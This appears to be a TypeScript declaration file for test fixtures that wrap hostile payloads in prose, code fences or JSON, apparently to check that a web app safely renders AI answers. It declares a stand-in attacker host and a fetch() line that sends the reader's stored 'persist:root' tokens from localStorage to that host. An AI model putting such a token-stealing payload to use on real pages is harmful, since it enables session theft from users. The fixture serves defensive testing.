/** An answer that tries to do harm. */
export interface HostileAnswer {
  /** What it tries, to be found by when a check fails. */
  name: string;
  text: string;
}
/** Where stolen things would go. Nothing answers there: the journey ends every request that leaves the origin. */
export declare const stranger = 'https://stranger.example';
/** What harm is done with: it is seen by the journey whether it runs in the page, in a picture or in a file. */
export declare const run = 'window.__ran=1;alert(1)';
/** Takes the reader's tokens. */
export declare const steal =
  "fetch('https://stranger.example/'+encodeURIComponent(localStorage.getItem('persist:root')))";
export declare const fence: (language: string, source: string, marker?: string) => string;
/** Each text by itself, with words around it as answers have. */
export declare const inProse: (kind: string, texts: readonly string[]) => HostileAnswer[];
/** Each text as a block of that language. */
export declare const inFences: (language: string, sources: readonly string[]) => HostileAnswer[];
/** The same with JSON. */
export declare const inJsonFences: (language: string, blocks: readonly unknown[]) => HostileAnswer[];
export declare const named: (texts: Readonly<Record<string, string>>) => HostileAnswer[];
